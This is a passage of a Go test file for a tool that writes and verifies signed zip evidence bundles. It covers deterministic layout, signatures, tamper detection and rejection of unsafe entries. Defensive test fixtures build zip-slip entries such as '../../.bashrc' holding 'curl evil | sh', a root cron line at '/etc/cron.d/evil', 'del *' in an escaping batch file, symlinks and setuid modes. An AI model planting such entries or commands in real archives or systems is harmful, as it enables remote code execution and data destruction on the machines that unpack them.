package reports

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/warroom/warroom/review"
)

var bundleAt = time.Date(2026, 11, 3, 9, 0, 0, 0, time.UTC)

func bundleManifest() Manifest {
	return Manifest{
		Format: BundleFormat, Version: BundleVersion, Tool: "warroom test",
		Workload:  review.Workload{Name: "payments", CreatedAt: bundleAt.Add(-90 * 24 * time.Hour)},
		CreatedAt: bundleAt, CreatedBy: "dana",
		// No milestone digest: it would need milestone/assessment.json
		// (TestVerifyBundle_MilestoneDigest).
		Milestone: review.Milestone{Number: 2, Name: "2026-Q4", CreatedAt: bundleAt.Add(-time.Hour), CreatedBy: "lee",
			Frozen: review.Frozen{AnswersThrough: 12, Answers: 12, Run: "run-1"}},
		Evidence: &RunInfo{ID: "run-1", StartedAt: bundleAt.Add(-3 * time.Hour), FinishedAt: bundleAt.Add(-2 * time.Hour),
			Accounts: []string{"111122223333"}, Regions: []string{"eu-west-1"}},
	}
}

// bundleFiles are given out of order; the bundle sorts them.
func bundleFiles() []BundleFile {
	return []BundleFile{
		{"report.md", []byte(strings.Repeat("# Review of payments\n\nSEC01: high risk.\n", 40))},
		{"answers.json", []byte(`{"version":1,"answers":[]}` + "\n")},
		{"scenarios/ttx-1/aar.md", []byte("# After-action report\n")},
		{"report.html", []byte("<!doctype html><title>Review</title>\n")},
		{"empty.txt", nil},
	}
}

func testKey(seed byte) ed25519.PrivateKey {
	return ed25519.NewKeyFromSeed(bytes.Repeat([]byte{seed}, ed25519.SeedSize))
}

func pubOf(k ed25519.PrivateKey) ed25519.PublicKey { return k.Public().(ed25519.PublicKey) }

func writeBundle(t *testing.T, key ed25519.PrivateKey) ([]byte, string) {
	t.Helper()
	var b bytes.Buffer
	digest, err := WriteBundle(&b, bundleManifest(), bundleFiles(), key)
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes(), digest
}

func verify(t *testing.T, b []byte, pub ed25519.PublicKey) *Verification {
	t.Helper()
	v, err := VerifyBundle(bytes.NewReader(b), int64(len(b)), pub)
	if err != nil {
		t.Fatalf("VerifyBundle: %v", err)
	}
	return v
}

// problems renders a verification's problems as "kind path: detail" lines.
func problems(v *Verification) string {
	var out []string
	for _, p := range v.Problems {
		out = append(out, p.Kind+" "+p.Path+": "+p.Detail)
	}
	return strings.Join(out, "\n")
}

func readAll(t *testing.T, f *zip.File) []byte {
	t.Helper()
	rc, err := f.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestWriteBundle_Layout(t *testing.T) {
	b, digest := writeBundle(t, testKey(1))
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
		if f.Method != zip.Deflate || !f.Modified.Equal(bundleAt) {
			t.Errorf("%s: method %d, modified %s; want deflate at %s", f.Name, f.Method, f.Modified, bundleAt)
		}
		// What verify requires, as archive/zip's Writer writes it.
		if f.CreatorVersion != zipMadeBy || f.ReaderVersion != zipVersion20 || f.ExternalAttrs != 0 || f.Flags != flagDataDescriptor ||
			len(f.Extra) != extTimeLen || extTime(f.Extra) == nil {
			t.Errorf("%s: made by %#04x, needs %d, attributes %#x, flags %#04x, extra % x", f.Name, f.CreatorVersion, f.ReaderVersion,
				f.ExternalAttrs, f.Flags, f.Extra)
		}
	}
	want := []string{"answers.json", "empty.txt", "report.html", "report.md", "scenarios/ttx-1/aar.md", "manifest.json", "manifest.sig"}
	if !slices.Equal(names, want) {
		t.Fatalf("entries %q, want %q", names, want)
	}
	manifest := readAll(t, zr.File[5])
	if sum := sha256.Sum256(manifest); digest != "sha256:"+hex.EncodeToString(sum[:]) {
		t.Errorf("digest %s is not the SHA-256 of manifest.json", digest)
	}
	if !bytes.HasSuffix(manifest, []byte("}\n")) || !bytes.Contains(manifest, []byte("\n  \"format\": \"warroom-evidence-bundle\",\n")) {
		t.Errorf("manifest.json is not indented JSON ending in a newline:\n%s", manifest)
	}
	var m Manifest
	if err := json.Unmarshal(manifest, &m); err != nil {
		t.Fatal(err)
	}
	if m.CreatedBy != "dana" || m.Milestone.Name != "2026-Q4" || m.Evidence == nil || m.Evidence.ID != "run-1" || len(m.Files) != 5 {
		t.Fatalf("manifest: %+v", m)
	}
	for i, f := range m.Files {
		data := readAll(t, zr.File[i])
		sum := sha256.Sum256(data)
		if f.Path != want[i] || f.SHA256 != hex.EncodeToString(sum[:]) || f.Size != int64(len(data)) {
			t.Errorf("manifest row %d: %+v; entry %s has %d bytes", i, f, want[i], len(data))
		}
	}
	var sig signatureFile
	if err := json.Unmarshal(readAll(t, zr.File[6]), &sig); err != nil {
		t.Fatal(err)
	}
	if sig.Algorithm != "ed25519" || sig.KeyID != KeyID(pubOf(testKey(1))) || sig.PublicKey == "" || sig.Signature == "" {
		t.Errorf("manifest.sig: %+v", sig)
	}

	// Without a key there is no manifest.sig; without a run no "evidence".
	m2 := bundleManifest()
	m2.Evidence = nil
	var b2 bytes.Buffer
	if _, err := WriteBundle(&b2, m2, bundleFiles(), nil); err != nil {
		t.Fatal(err)
	}
	zr2, err := zip.NewReader(bytes.NewReader(b2.Bytes()), int64(b2.Len()))
	if err != nil {
		t.Fatal(err)
	}
	last := zr2.File[len(zr2.File)-1]
	if last.Name != "manifest.json" || bytes.Contains(readAll(t, last), []byte(`"evidence"`)) {
		t.Errorf("unsigned bundle ends with %s, or its manifest names evidence", last.Name)
	}
}

func TestWriteBundle_Deterministic(t *testing.T) {
	a, da := writeBundle(t, testKey(1))
	b, db := writeBundle(t, testKey(1))
	if !bytes.Equal(a, b) || da != db {
		t.Fatal("the same inputs gave different bundles")
	}
	files := bundleFiles()
	slices.Reverse(files)
	var c bytes.Buffer
	if _, err := WriteBundle(&c, bundleManifest(), files, testKey(1)); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a, c.Bytes()) {
		t.Error("the order files are given in changed the bundle")
	}
	m := bundleManifest()
	m.CreatedAt = bundleAt.Add(time.Second)
	var d bytes.Buffer
	if _, err := WriteBundle(&d, m, bundleFiles(), testKey(1)); err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(a, d.Bytes()) {
		t.Error("another creation time gave the same bytes")
	}
}

func TestWriteBundle_BadPaths(t *testing.T) {
	for _, p := range []string{"", ".", "/etc/passwd", "../up.txt", "a/../b", "a//b", "a/", "./a", `a\b`, "manifest.json", "manifest.sig", "a\x1b[2Jb",
		"C:/evil", "c:evil", "a\xffb", "a/./b"} {
		files := append(bundleFiles(), BundleFile{Path: p, Data: []byte("x")})
		if _, err := WriteBundle(io.Discard, bundleManifest(), files, nil); err == nil || !strings.Contains(err.Error(), "bundle file") {
			t.Errorf("path %q: error %v", p, err)
		}
	}
	files := append(bundleFiles(), BundleFile{Path: "report.md", Data: []byte("again")})
	if _, err := WriteBundle(io.Discard, bundleManifest(), files, nil); err == nil || !strings.Contains(err.Error(), `"report.md" is given twice`) {
		t.Errorf("duplicate path: error %v", err)
	}
	if _, err := WriteBundle(io.Discard, bundleManifest(), bundleFiles(), ed25519.PrivateKey{1, 2}); err == nil {
		t.Error("a 2-byte signing key was accepted")
	}
}

// TestWriteBundle_CaseTwins: WriteBundle refuses paths that verify would
// flag as differing only in case, its own file names included.
func TestWriteBundle_CaseTwins(t *testing.T) {
	for _, tt := range []struct{ path, other string }{
		{"REPORT.md", "report.md"},
		{"Manifest.JSON", "manifest.json"},
		{"MANIFEST.sig", "manifest.sig"},
		{"scenarios/TTX-1/aar.md", "scenarios/ttx-1/aar.md"},
	} {
		files := append(bundleFiles(), BundleFile{Path: tt.path, Data: []byte("x")})
		_, err := WriteBundle(io.Discard, bundleManifest(), files, nil)
		a, b := tt.path, tt.other
		if a > b {
			a, b = b, a
		}
		want := fmt.Sprintf("bundle file %q differs only in case from %q", b, a)
		if tt.other == ManifestName || tt.other == SignatureName {
			want = fmt.Sprintf("bundle file %q differs only in case from %q", tt.path, tt.other)
		}
		if err == nil || !strings.HasPrefix(err.Error(), want) {
			t.Errorf("%s: error %v, want %q…", tt.path, err, want)
		}
	}
}

// TestWriteBundle_NotUTF8: manifest text that is not UTF-8 (a workload name
// stored before warroom refused one, an AWS error message) is written as
// U+FFFD, so the bundle verifies; before, the bytes verify rebuilt
// differed and it said the manifest was changed by hand.
func TestWriteBundle_NotUTF8(t *testing.T) {
	m := bundleManifest()
	m.Workload.Name, m.Workload.Owner = "pay\xffx", "team \xe2\x82"
	m.Evidence.Error = "collect: operation error EC2: DescribeRegions: \xc3("
	m.Evidence.Accounts = []string{"1111\xff22223333"}
	var b bytes.Buffer
	digest, err := WriteBundle(&b, m, bundleFiles(), testKey(1))
	if err != nil {
		t.Fatal(err)
	}
	v := verify(t, b.Bytes(), pubOf(testKey(1)))
	if !v.OK() || v.Digest != digest {
		t.Fatalf("problems\n%s", problems(v))
	}
	got := v.Manifest
	if got.Workload.Name != "pay\ufffdx" || got.Workload.Owner != "team \ufffd\ufffd" ||
		got.Evidence.Error != "collect: operation error EC2: DescribeRegions: \ufffd(" || got.Evidence.Accounts[0] != "1111\ufffd22223333" {
		t.Errorf("manifest read back: %+v %+v", got.Workload, got.Evidence)
	}
}

// TestWriteBundle_RefusesWhatWouldNotVerify: WriteBundle writes nothing
// that verify would not read back: a manifest of another format, or a date
// a zip entry cannot hold.
func TestWriteBundle_RefusesWhatWouldNotVerify(t *testing.T) {
	m := bundleManifest()
	m.Format = ""
	var b bytes.Buffer
	if _, err := WriteBundle(&b, m, bundleFiles(), nil); err == nil || b.Len() != 0 ||
		err.Error() != `the manifest would not verify, so no bundle is written: manifest.json says format "" version 1; this warroom reads "warroom-evidence-bundle" version 1` {
		t.Errorf("no format: error %v, %d bytes written", err, b.Len())
	}
	for _, at := range []time.Time{time.Date(1979, 12, 31, 23, 0, 0, 0, time.UTC), time.Date(2106, 1, 1, 0, 0, 0, 0, time.UTC)} {
		m := bundleManifest()
		m.CreatedAt = at
		if _, err := WriteBundle(io.Discard, m, bundleFiles(), nil); err == nil || !strings.Contains(err.Error(), "outside the years 1980 to 2105") {
			t.Errorf("dated %s: error %v", at, err)
		}
	}
}

func TestVerifyBundle_Clean(t *testing.T) {
	unsigned, du := writeBundle(t, nil)
	signed, ds := writeBundle(t, testKey(1))
	tests := []struct {
		name            string
		bundle          []byte
		pub             ed25519.PublicKey
		digest          string
		signed, checked bool
		problems        string
	}{
		{"unsigned", unsigned, nil, du, false, false, ""},
		{"signed, no key given", signed, nil, ds, true, false, ""},
		{"signed, its key", signed, pubOf(testKey(1)), ds, true, true, ""},
		{"signed, another key", signed, pubOf(testKey(2)), ds, true, true,
			"signature manifest.sig: signed by key " + KeyID(pubOf(testKey(1))) + ", not by the given key " + KeyID(pubOf(testKey(2)))},
		{"unsigned, a key given", unsigned, pubOf(testKey(1)), du, false, true,
			"signature manifest.sig: the bundle is not signed, so it cannot be checked against key " + KeyID(pubOf(testKey(1)))},
	}
	for _, tt := range tests {
		v := verify(t, tt.bundle, tt.pub)
		if got := problems(v); got != tt.problems || v.OK() != (tt.problems == "") {
			t.Errorf("%s: problems\n%s\nwant\n%s", tt.name, got, tt.problems)
		}
		if v.Digest != tt.digest || v.Signed != tt.signed || v.SignatureChecked != tt.checked {
			t.Errorf("%s: digest %s signed %v checked %v", tt.name, v.Digest, v.Signed, v.SignatureChecked)
		}
		if tt.signed && v.KeyID != KeyID(pubOf(testKey(1))) || !tt.signed && v.KeyID != "" {
			t.Errorf("%s: key id %q", tt.name, v.KeyID)
		}
		if v.Manifest.Milestone.Name != "2026-Q4" || len(v.Manifest.Files) != 5 {
			t.Errorf("%s: manifest %+v", tt.name, v.Manifest)
		}
	}
}

// flipData flips one byte in the middle of an entry's stored (compressed)
// data.
func flipData(t *testing.T, b []byte, name string) []byte {
	t.Helper()
	f := zipEntry(t, b, name)
	off, err := f.DataOffset()
	if err != nil {
		t.Fatal(err)
	}
	out := slices.Clone(b)
	out[off+int64(f.CompressedSize64)/2] ^= 0x20
	return out
}

func TestVerifyBundle_FlippedByte(t *testing.T) {
	for _, key := range []ed25519.PrivateKey{nil, testKey(1)} {
		b, _ := writeBundle(t, key)
		v := verify(t, flipData(t, b, "report.md"), nil)
		if v.OK() || len(v.Problems) != 1 || v.Problems[0].Path != "report.md" || v.Problems[0].Kind != ProblemAltered {
			t.Errorf("signed %v: problems\n%s", key != nil, problems(v))
		}
	}
}

// rezip rewrites a bundle entry by entry: edit returns an entry's new data
// and whether to keep it; more entries are appended at the end.
func rezip(t *testing.T, b []byte, edit func(name string, data []byte) ([]byte, bool), more ...BundleFile) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	put := func(name string, data []byte) {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Deflate, Modified: bundleAt})
		if err != nil {
			t.Fatal(err)
		}
		w.Write(data)
	}
	for _, f := range zr.File {
		data, keep := edit(f.Name, readAll(t, f))
		if keep {
			put(f.Name, data)
		}
	}
	for _, f := range more {
		put(f.Path, f.Data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func keep(_ string, data []byte) ([]byte, bool) { return data, true }

// afterDeflate puts hidden right after the compressed data of entry name,
// inside it as the zip sees it: the entry's compressed size grows in its
// data descriptor and central directory record, and every later offset
// moves. archive/zip still reads the same content.
func afterDeflate(t *testing.T, b []byte, name, hidden string) []byte {
	t.Helper()
	f := zipEntry(t, b, name)
	off, err := f.DataOffset()
	if err != nil {
		t.Fatal(err)
	}
	end := off + int64(f.CompressedSize64)
	n := uint32(len(hidden))
	out := slices.Concat(b[:end], []byte(hidden), b[end:])
	le := binary.LittleEndian
	le.PutUint32(out[end+int64(n)+8:], uint32(f.CompressedSize64)+n) // the descriptor: signature, CRC-32, sizes
	eocd := len(out) - 22
	cd := int(le.Uint32(out[eocd+16:])) + int(n)
	le.PutUint32(out[eocd+16:], uint32(cd))
	for at := cd; at < eocd; {
		rec := out[at:]
		switch local := int64(le.Uint32(rec[42:])); {
		case local > end:
			le.PutUint32(rec[42:], uint32(local)+n)
		case string(rec[46:46+int(le.Uint16(rec[28:]))]) == name:
			le.PutUint32(rec[20:], le.Uint32(rec[20:])+n)
		}
		at += 46 + int(le.Uint16(rec[28:])) + int(le.Uint16(rec[30:])) + int(le.Uint16(rec[32:]))
	}
	// archive/zip reads it as before.
	if got := readAll(t, zipEntry(t, out, name)); !bytes.Equal(got, readAll(t, f)) {
		t.Fatalf("%s reads otherwise after hiding bytes", name)
	}
	return out
}

// reheader rewrites a bundle as WriteBundle wrote it, but for the header of
// entry name, which fix changes before the entry is written.
func reheader(t *testing.T, b []byte, name string, fix func(*zip.FileHeader)) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	found := false
	for _, f := range zr.File {
		fh := &zip.FileHeader{Name: f.Name, Method: zip.Deflate, Modified: bundleAt}
		if f.Name == name {
			fix(fh)
			found = true
		}
		w, err := zw.CreateHeader(fh)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(readAll(t, f)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil || !found {
		t.Fatalf("rewrite %s: %v (found %v)", name, err, found)
	}
	return out.Bytes()
}

// editManifest changes manifest.json through fn and keeps the rest.
func editManifest(t *testing.T, fn func(*Manifest)) func(string, []byte) ([]byte, bool) {
	return func(name string, data []byte) ([]byte, bool) {
		if name != ManifestName {
			return data, true
		}
		var m Manifest
		if err := json.Unmarshal(data, &m); err != nil {
			t.Fatal(err)
		}
		fn(&m)
		out, err := json.MarshalIndent(m, "", "  ")
		if err != nil {
			t.Fatal(err)
		}
		return append(out, '\n'), true
	}
}

func TestVerifyBundle_Tampered(t *testing.T) {
	unsigned, _ := writeBundle(t, nil)
	signed, _ := writeBundle(t, testKey(1))
	newReport := []byte("# Review of payments\n\nEverything is fine.\n")
	newSum := sha256.Sum256(newReport)
	tests := []struct {
		name     string
		bundle   []byte
		pub      ed25519.PublicKey
		problems string
	}{
		{"rewritten as it was", rezip(t, unsigned, keep), nil, ""},
		{"a file removed", rezip(t, unsigned, func(name string, d []byte) ([]byte, bool) { return d, name != "answers.json" }), nil,
			"missing answers.json: listed in manifest.json, not in the bundle"},
		{"a file added", rezip(t, unsigned, keep, BundleFile{"notes/extra.md", []byte("hi")}), nil,
			"extra notes/extra.md: in the bundle, not listed in manifest.json"},
		{"a file added twice", rezip(t, unsigned, keep, BundleFile{"report.md", []byte("other")}), nil,
			"duplicate report.md: 2 entries with this name; the first was verified, and a zip tool may extract another"},
		{"a file's content replaced", rezip(t, unsigned, func(name string, d []byte) ([]byte, bool) {
			if name == "report.html" {
				return []byte("<!doctype html><title>Fake!!</title>\n"), true
			}
			return d, true
		}), nil, "altered report.html: sha256 differs (manifest "},
		{"a file cut short", rezip(t, unsigned, func(name string, d []byte) ([]byte, bool) {
			if name == "report.md" {
				return d[:10], true
			}
			return d, true
		}), nil, "altered report.md: size differs (manifest 1600 bytes, file 10 bytes)"},
		{"a file grown", rezip(t, unsigned, func(name string, d []byte) ([]byte, bool) {
			if name == "empty.txt" {
				return []byte("x"), true
			}
			return d, true
		}), nil, "altered empty.txt: size differs (manifest 0 bytes, file more)"},
		{"a listed hash flipped", rezip(t, unsigned, editManifest(t, func(m *Manifest) {
			h := []byte(m.Files[3].SHA256)
			h[5] ^= 0x01
			m.Files[3].SHA256 = string(h)
		})), nil, "altered report.md: sha256 differs (manifest "},
		{"a path listed twice", rezip(t, unsigned, editManifest(t, func(m *Manifest) {
			m.Files = append(m.Files, m.Files[0])
		})), nil, "duplicate answers.json: listed twice in manifest.json"},
		{"a manifest edited to match a replaced file", rezip(t, signed, func(name string, d []byte) ([]byte, bool) {
			if name == "report.md" {
				return newReport, true
			}
			return editManifest(t, func(m *Manifest) {
				m.Files[3].SHA256, m.Files[3].Size = hex.EncodeToString(newSum[:]), int64(len(newReport))
			})(name, d)
		}), pubOf(testKey(1)), "signature manifest.sig: the signature does not match manifest.json: the manifest changed after it was signed"},
		{"a manifest edited, no key given", rezip(t, signed, editManifest(t, func(m *Manifest) { m.CreatedBy = "mallory" })), nil,
			"signature manifest.sig: the signature does not match manifest.json: the manifest changed after it was signed"},
		{"re-signed by another key", func() []byte {
			var b bytes.Buffer
			m := bundleManifest()
			m.CreatedBy = "mallory"
			if _, err := WriteBundle(&b, m, bundleFiles(), testKey(2)); err != nil {
				t.Fatal(err)
			}
			return b.Bytes()
		}(), pubOf(testKey(1)), "signature manifest.sig: signed by key " + KeyID(pubOf(testKey(2))) + ", not by the given key"},
		{"signature removed", rezip(t, signed, func(name string, d []byte) ([]byte, bool) { return d, name != SignatureName }), pubOf(testKey(1)),
			"signature manifest.sig: the bundle is not signed"},
		{"signature not JSON", rezip(t, signed, func(name string, d []byte) ([]byte, bool) {
			if name == SignatureName {
				return []byte("garbage"), true
			}
			return d, true
		}), nil, "signature manifest.sig: malformed: not valid JSON"},
		{"signature names another key id", rezip(t, signed, func(name string, d []byte) ([]byte, bool) {
			if name == SignatureName {
				return bytes.Replace(d, []byte(`"sha256:`), []byte(`"sha256:0`), 1), true
			}
			return d, true
		}), nil, "signature manifest.sig: malformed: key_id "},
		{"everything at once", rezip(t, unsigned, func(name string, d []byte) ([]byte, bool) {
			switch name {
			case "answers.json":
				return nil, false
			case "scenarios/ttx-1/aar.md":
				return []byte("changed"), true
			}
			return d, true
		}, BundleFile{"a-first.txt", nil}, BundleFile{"zz.txt", nil}), nil,
			"extra a-first.txt: in the bundle, not listed in manifest.json\n" +
				"missing answers.json: listed in manifest.json, not in the bundle\n" +
				"altered scenarios/ttx-1/aar.md: size differs (manifest 22 bytes, file 7 bytes)\n" +
				"extra zz.txt: in the bundle, not listed in manifest.json"},
	}
	for _, tt := range tests {
		v := verify(t, tt.bundle, tt.pub)
		got := problems(v)
		if tt.problems == "" && got != "" || !strings.HasPrefix(got, tt.problems) || strings.Count(got, "\n") != strings.Count(tt.problems, "\n") {
			t.Errorf("%s: problems\n%s\nwant\n%s", tt.name, got, tt.problems)
		}
	}
}

func TestVerifyBundle_NotABundle(t *testing.T) {
	b, _ := writeBundle(t, testKey(1))
	noManifest := rezip(t, b, func(name string, d []byte) ([]byte, bool) { return d, name != ManifestName })
	otherFormat := rezip(t, b, editManifest(t, func(m *Manifest) { m.Version = 2 }))
	badJSON := rezip(t, b, func(name string, d []byte) ([]byte, bool) {
		if name == ManifestName {
			return d[:len(d)/2], true
		}
		return d, true
	})
	tests := []struct {
		name   string
		bundle []byte
		want   string
	}{
		{"text file", []byte("this is not a zip archive\n"), "not a zip archive, or it is truncated: zip: not a valid zip file"},
		{"truncated", b[:len(b)/2], "not a zip archive, or it is truncated"},
		{"empty", nil, "not a zip archive, or it is truncated"},
		{"no manifest", noManifest, "not a warroom evidence bundle: manifest.json is missing"},
		{"another version", otherFormat, `manifest.json says format "warroom-evidence-bundle" version 2; this warroom reads "warroom-evidence-bundle" version 1`},
		{"manifest not JSON", badJSON, "manifest.json is not valid JSON"},
		{"manifest damaged", flipData(t, b, ManifestName), "manifest.json cannot be read, so nothing can be verified"},
	}
	for _, tt := range tests {
		v, err := VerifyBundle(bytes.NewReader(tt.bundle), int64(len(tt.bundle)), nil)
		if err == nil || !strings.Contains(err.Error(), tt.want) || v != nil {
			t.Errorf("%s: error %v, want %q", tt.name, err, tt.want)
		}
	}
}

// rawEntry is an entry for craftBundle: any name, a mode (0: as WriteBundle
// writes it), and whether the manifest leaves it out.
type rawEntry struct {
	name     string
	data     []byte
	mode     fs.FileMode
	unlisted bool
}

// craftBundle writes what WriteBundle would if it took any name: entries in
// order, each listed in the manifest unless unlisted, then manifest.json.
func craftBundle(t *testing.T, m Manifest, entries []rawEntry, manifestOnly ...string) []byte {
	t.Helper()
	for _, e := range entries {
		if !e.unlisted {
			sum := sha256.Sum256(e.data)
			m.Files = append(m.Files, ManifestFile{Path: e.name, SHA256: hex.EncodeToString(sum[:]), Size: int64(len(e.data))})
		}
	}
	for _, p := range manifestOnly {
		m.Files = append(m.Files, ManifestFile{Path: p, SHA256: strings.Repeat("0", 64)})
	}
	manifest, err := json.MarshalIndent(m, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	put := func(e rawEntry) {
		fh := &zip.FileHeader{Name: e.name, Method: zip.Deflate, Modified: bundleAt}
		if e.mode != 0 {
			fh.SetMode(e.mode)
		}
		w, err := zw.CreateHeader(fh)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(e.data); err != nil {
			t.Fatal(err)
		}
	}
	for _, e := range entries {
		put(e)
	}
	put(rawEntry{name: ManifestName, data: append(manifest, '\n')})
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// cleanEntries are bundleFiles as raw entries, in the order WriteBundle
// writes them.
func cleanEntries() []rawEntry {
	files := bundleFiles()
	slices.SortFunc(files, func(a, b BundleFile) int { return strings.Compare(a.Path, b.Path) })
	var out []rawEntry
	for _, f := range files {
		out = append(out, rawEntry{name: f.Path, data: f.Data})
	}
	return out
}

func TestVerifyBundle_Unsafe(t *testing.T) {
	with := func(more ...rawEntry) []rawEntry { return append(cleanEntries(), more...) }
	escapes := "path escapes the bundle folder: "
	dotElement := "the path has an empty or . element, which zip tools read differently"
	// unix is what an entry with a Unix file mode (attrs: the mode in the
	// high 16 bits) adds: zip tools unpack the mode, so it is framing.
	unix := func(name string, attrs uint32) string {
		return fmt.Sprintf("framing %s: the central directory gives external file attributes %#08x (such as a file mode); warroom writes 0\n"+
			"framing %s: the central directory gives version made by 0x0314 (host system 3), which can carry a Unix file mode; warroom writes 0x0014 (MS-DOS, zip 2.0)\n",
			name, attrs, name)
	}
	tests := []struct {
		name         string
		entries      []rawEntry
		manifestOnly []string
		problems     string
	}{
		{"as WriteBundle writes it", cleanEntries(), nil, ""},
		// WriteBundle writes no file mode; one that zip tools unpack as
		// executable is not what it wrote.
		{"an executable file", with(rawEntry{name: "run.sh", data: []byte("echo\n"), mode: 0o755}), nil, strings.TrimSuffix(unix("run.sh", 0x81ed0000), "\n")},
		{"parent folders", with(rawEntry{name: "../../.bashrc", data: []byte("curl evil | sh\n")}), nil,
			"unsafe ../../.bashrc: " + escapes + "it has a .. element"},
		{"absolute", with(rawEntry{name: "/etc/cron.d/evil", data: []byte("* * * * * root sh\n")}), nil,
			"unsafe /etc/cron.d/evil: " + escapes + "it starts with /"},
		{"backslashes", with(rawEntry{name: `..\..\evil.bat`, data: []byte("del *\n")}), nil,
			`unsafe ..\..\evil.bat: the path holds a backslash, which Windows reads as a folder separator`},
		{"drive letter", with(rawEntry{name: "C:/evil", data: []byte("x")}), nil,
			"unsafe C:/evil: " + escapes + "it starts with a drive letter"},
		{"drive-relative", with(rawEntry{name: "d:evil", data: []byte("x")}), nil,
			"unsafe d:evil: " + escapes + "it starts with a drive letter"},
		{"dot element", with(rawEntry{name: "a/./b", data: []byte("x")}), nil, "unsafe a/./b: " + dotElement},
		{"empty element", with(rawEntry{name: "a//b", data: []byte("x")}), nil, "unsafe a//b: " + dotElement},
		{"control character", with(rawEntry{name: "a\x1b[2Jb", data: []byte("x")}), nil,
			"unsafe a\x1b[2Jb: the path holds a control character"},
		// JSON cannot hold such a name, so the manifest cannot list it.
		{"not UTF-8", with(rawEntry{name: "a\xffb", data: []byte("x"), unlisted: true}), nil,
			"extra a\xffb: in the bundle, not listed in manifest.json\nunsafe a\xffb: the path is not valid UTF-8"},
		{"a folder", with(rawEntry{name: "docs/"}), nil,
			"framing docs/: the central directory gives flags 0x0000; warroom writes 0x0008 for this name\n" +
				"framing docs/: the entry has compression method 0; warroom deflates every entry (method 8)\n" +
				"unsafe docs/: entry is a folder\nunsafe docs/: " + dotElement},
		{"unlisted", with(rawEntry{name: "../evil", unlisted: true}), nil,
			"extra ../evil: in the bundle, not listed in manifest.json\nunsafe ../evil: " + escapes + "it has a .. element"},
		{"listed only", cleanEntries(), []string{"/etc/passwd"},
			"missing /etc/passwd: listed in manifest.json, not in the bundle\nunsafe /etc/passwd: " + escapes + "it starts with /"},
		{"symbolic link", with(rawEntry{name: "link", data: []byte("/etc/passwd"), mode: fs.ModeSymlink | 0o777}), nil,
			unix("link", 0xa1ff0000) + "unsafe link: entry is a symbolic link"},
		{"setuid", with(rawEntry{name: "tool", data: []byte("x"), mode: fs.ModeSetuid | 0o755}), nil,
			unix("tool", 0x89ed0000) + "unsafe tool: entry has the setuid, setgid or sticky bit set (mode urwxr-xr-x)"},
		{"setgid", with(rawEntry{name: "tool", data: []byte("x"), mode: fs.ModeSetgid | 0o755}), nil,
			unix("tool", 0x85ed0000) + "unsafe tool: entry has the setuid, setgid or sticky bit set (mode grwxr-xr-x)"},
		{"sticky", with(rawEntry{name: "tool", data: []byte("x"), mode: fs.ModeSticky | 0o755}), nil,
			unix("tool", 0x83ed0000) + "unsafe tool: entry has the setuid, setgid or sticky bit set (mode trwxr-xr-x)"},
		{"named pipe", with(rawEntry{name: "fifo", mode: fs.ModeNamedPipe | 0o644}), nil,
			unix("fifo", 0x11a40000) + "unsafe fifo: entry is not a plain file (mode prw-r--r--)"},
		{"names that differ only in case", with(rawEntry{name: "REPORT.md", data: []byte("# Other\n")}), nil,
			"unsafe REPORT.md: differs only in case from \"report.md\"\nunsafe report.md: differs only in case from \"REPORT.md\""},
		{"non-ASCII case", with(rawEntry{name: "Ärger.md", data: []byte("a")}, rawEntry{name: "äRGER.md", data: []byte("b")}), nil,
			"unsafe Ärger.md: differs only in case from \"äRGER.md\"\nunsafe äRGER.md: differs only in case from \"Ärger.md\""},
		{"a second manifest in another case", with(rawEntry{name: "Manifest.JSON", data: []byte("{}"), unlisted: true}), nil,
			"extra Manifest.JSON: in the bundle, not listed in manifest.json\n" +
				"unsafe Manifest.JSON: differs only in case from \"manifest.json\"\n" +
				"unsafe manifest.json: differs only in case from \"Manifest.JSON\""},
	}
	for _, tt := range tests {
		v := verify(t, craftBundle(t, bundleManifest(), tt.entries, tt.manifestOnly...), nil)
		if got := problems(v); got != tt.problems || v.OK() != (tt.problems == "") {
			t.Errorf("%s: problems\n%s\nwant\n%s", tt.name, got, tt.problems)
		}
	}
}

func TestFoldKey(t *testing.T) {
	for _, tt := range []struct {
		a, b    string
		same    bool
		notUTF8 bool // EqualFold takes every such byte for U+FFFD
	}{
		{"report.md", "REPORT.md", true, false},
		{"Ärger", "äRGER", true, false},
		{"K", "\u212a", true, false}, // Kelvin sign folds to k
		{"ß", "ss", false, false},    // EqualFold is simple folding only
		{"a\xff", "a\xfe", false, true},
		{"a\xff", "A\xff", true, false},
		{"report.md", "report.mdx", false, false},
	} {
		if got := foldKey(tt.a) == foldKey(tt.b); got != tt.same || !tt.notUTF8 && got != strings.EqualFold(tt.a, tt.b) {
			t.Errorf("foldKey(%q) == foldKey(%q) is %v, want %v (EqualFold %v)", tt.a, tt.b, got, tt.same, strings.EqualFold(tt.a, tt.b))
		}
	}
}

// zipEntry finds a bundle entry by name.
func zipEntry(t *testing.T, b []byte, name string) *zip.File {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
